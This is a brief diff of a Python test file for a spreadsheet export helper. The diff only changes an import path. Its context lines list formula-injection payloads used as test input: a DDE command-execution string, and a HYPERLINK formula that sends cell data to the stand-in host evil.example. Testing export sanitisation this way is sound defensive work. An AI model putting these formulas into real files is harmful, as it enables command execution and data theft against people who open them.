@@ -8,7 +8,7 @@ import openpyxl
 import pytest
 from openpyxl import Workbook
 
-from service.exports import safe_append
+from fundflow.service.exports import safe_append
 from tests.service.test_money import Flow
 
 HOSTILE_OWNERS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?x="&A1,"点击")', "=1+1", "+1+1", "-2+3",
